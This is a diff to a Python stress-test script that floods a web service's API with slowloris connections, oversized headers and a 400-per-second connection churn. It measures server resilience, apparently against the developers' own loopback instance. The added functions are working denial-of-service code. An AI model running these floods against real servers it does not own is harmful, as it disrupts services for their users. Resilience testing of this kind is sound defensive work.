@@ -8,7 +8,11 @@ connection. Per attack: what the server did (status, when it closed), the victim
 failures, and the web processes' RSS (sum over the processes listening on the port, from /proc).
 
 - idle: --connections connections that send nothing (and reconnect when the server closes them);
-- slowloris: 500 connections that send one header byte per second;
+- slowloris: 500 connections that send one header line per second;
+- slowloris-bytes: 500 connections that send their headers one byte per second each, and reopen any the
+  server closes, so 500 are held throughout;
+- churn: --churn-rate new connections a second (400 by default) that each send a predict call of 8 texts
+  (--token, --model) and hang up at once, without reading the answer;
 - big-header: 20 connections each sending a 40 MB header;
 - many-headers: one request with 20,000 headers.
 
@@ -19,6 +23,7 @@ from __future__ import annotations
 
 import argparse
 import contextlib
+import json
 import socket
 import statistics
 import threading
@@ -150,6 +155,82 @@ def slowloris(host: str, port: int, source: str, n: int, stop: threading.Event, 
         conn.close()
 
 
+def slowloris_bytes(host: str, port: int, source: str, n: int, stop: threading.Event, report: dict) -> None:
+    """`n` connections whose headers arrive one byte per second each, reopened when the server closes one."""
+    request = f"GET /api/v1/health HTTP/1.1\r\nHost: {host}\r\n" + "".join(f"X-{i}: {i}\r\n" for i in range(1000))
+    payload = request.encode()
+    conns: dict[socket.socket, int] = {}
+    opened = closed_by_server = 0
+    started = time.monotonic()
+    first_closed_s: float | None = None
+    while not stop.is_set():
+        while len(conns) < n and not stop.is_set():
+            conn = connect(host, port, source)
+            if conn is None:
+                report["connect_failed"] = report.get("connect_failed", 0) + 1
+                break
+            conn.setblocking(False)
+            conns[conn] = 0
+            opened += 1
+        report["held_max"] = max(report.get("held_max", 0), len(conns))
+        for conn, sent in list(conns.items()):
+            try:
+                conn.send(payload[sent : sent + 1])
+                conns[conn] = sent + 1
+                if conn.recv(4096) == b"":
+                    raise ConnectionResetError
+            except BlockingIOError:
+                pass
+            except OSError:
+                closed_by_server += 1
+                first_closed_s = first_closed_s or round(time.monotonic() - started, 1)
+                del conns[conn]
+                conn.close()
+        stop.wait(1.0)
+    report.update(opened=opened, closed_by_server=closed_by_server, first_closed_s=first_closed_s)
+    for conn in conns:
+        conn.close()
+
+
+def churn(
+    host: str, port: int, source: str, rate: float, token: str, model: str, stop: threading.Event, report: dict
+) -> None:
+    """`rate` new connections a second, each sending a predict call of 8 texts and hanging up at once.
+
+    Four threads share the rate, so a connect that waits (a full accept queue) does not slow the rest.
+    """
+    body = json.dumps({"inputs": [f"my parcel number {i} never arrived" for i in range(8)]}).encode()
+    request = (
+        f"POST /api/v1/models/{model}/predict HTTP/1.1\r\nHost: {host}\r\nAuthorization: Token {token}\r\n"
+        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
+    ).encode() + body
+    counts = {"sent": 0, "connect_failed": 0}
+    lock = threading.Lock()
+    started = time.monotonic()
+
+    def one_thread(share: float) -> None:
+        next_at = time.monotonic()
+        while not stop.is_set():
+            next_at += 1 / share
+            try:
+                with socket.create_connection((host, port), timeout=2, source_address=(source, 0)) as conn:
+                    conn.sendall(request)
+                key = "sent"
+            except OSError:
+                key = "connect_failed"
+            with lock:
+                counts[key] += 1
+            stop.wait(max(0.0, next_at - time.monotonic()))
+
+    threads = [threading.Thread(target=one_thread, args=(rate / 4,)) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    elapsed_s = time.monotonic() - started
+    report.update(counts, per_s=round(counts["sent"] / elapsed_s))
+
+
 def send_header(host: str, port: int, source: str, size_bytes: int, report: dict, key: str) -> None:
     conn = connect(host, port, source)
     if conn is None:
@@ -208,9 +289,26 @@ def many_headers(host: str, port: int, source: str, stop: threading.Event, repor
         conn.close()
 
 
+def settle(host: str, port: int, timeout_s: float = 60) -> None:
+    """Wait until the server answers the other client's request within 50 ms five times in a row: an attack
+    before (a flood's queued requests, still being answered) must not be counted against the next one."""
+    deadline, fast = time.monotonic() + timeout_s, 0
+    while fast < 5 and time.monotonic() < deadline:
+        started = time.perf_counter()
+        try:
+            with socket.create_connection((host, port), timeout=5) as conn:
+                conn.sendall(f"GET /api/v1/health HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+                ok = conn.recv(64).startswith(b"HTTP/1.1 200")
+        except OSError:
+            ok = False
+        fast = fast + 1 if ok and time.perf_counter() - started < 0.05 else 0
+        time.sleep(0.2)
+
+
 def run(name: str, attack, url: str, seconds: float, **kwargs) -> None:
     parsed = urlparse(url)
     host, port = parsed.hostname or "127.0.0.1", parsed.port or 80
+    settle(host, port)
     stop, victim, report = threading.Event(), Victim(), {}
     rss_before = web_rss_mb(port)
     rss_peak = [rss_before]
@@ -235,6 +333,9 @@ def main() -> None:
     parser.add_argument("--seconds", type=float, default=20)
     parser.add_argument("--attacker-address", default="127.0.0.2")
     parser.add_argument("--attacks", default="idle,slowloris,big-header,many-headers")
+    parser.add_argument("--churn-rate", type=float, default=400, help="new connections a second (churn)")
+    parser.add_argument("--token", default="", help="the API token the churn's predict calls carry")
+    parser.add_argument("--model", default="identity", help="the model the churn's predict calls name")
     args = parser.parse_args()
     source = args.attacker_address
     print(
@@ -246,6 +347,19 @@ def main() -> None:
         run(f"idle x{args.connections}", idle_attack, args.url, args.seconds, source=source, n=args.connections)
     if "slowloris" in chosen:
         run("slowloris x500", slowloris, args.url, args.seconds, source=source, n=500)
+    if "slowloris-bytes" in chosen:
+        run("slowloris x500, a byte a second", slowloris_bytes, args.url, args.seconds, source=source, n=500)
+    if "churn" in chosen:
+        run(
+            f"churn {args.churn_rate:g}/s",
+            churn,
+            args.url,
+            args.seconds,
+            source=source,
+            rate=args.churn_rate,
+            token=args.token,
+            model=args.model,
+        )
     if "big-header" in chosen:
         run("40 MB header x20", big_headers, args.url, args.seconds, source=source)
     if "many-headers" in chosen:
